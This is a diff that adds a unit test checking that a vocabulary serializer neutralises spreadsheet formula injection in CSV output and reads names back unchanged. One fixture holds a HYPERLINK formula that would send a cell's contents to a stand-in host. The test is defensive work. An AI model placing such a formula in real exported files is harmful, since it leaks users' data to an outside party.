@@ -143,6 +143,21 @@ describe('vocabulary files', () => {
     ]);
   });
 
+  it('writes no cell a spreadsheet would run as a formula, and reads every name back as it was', () => {
+    const risky: Concept = {
+      id: 'risky',
+      prefLabel: { en: '=HYPERLINK("http://x.example/?"&A1,"open")', es: "'entre comillas" },
+      altLabel: { en: ['+1', '@mention'] },
+      scopeNote: { fr: '-ismes' },
+    };
+    const csv = serializeVocabulary([risky], 'csv').replace(/^\uFEFF/, '');
+    const cells = csv.split(/\r?\n/)[1]!;
+    expect(cells).not.toMatch(/(^|,)"?[=+\-@]/);
+    expect(cells).toContain(`'=HYPERLINK`);
+    expect(cells).toContain(`''entre comillas`);
+    expect(parseVocabulary(encode(csv), 'csv')).toEqual([risky]);
+  });
+
   it('refuses hostile files with a typed reason', () => {
     const json = (value: unknown) => encode(JSON.stringify(value));
     const file = (concepts: unknown) => json({ format: 'tvault-vocabulary', version: 1, concepts });
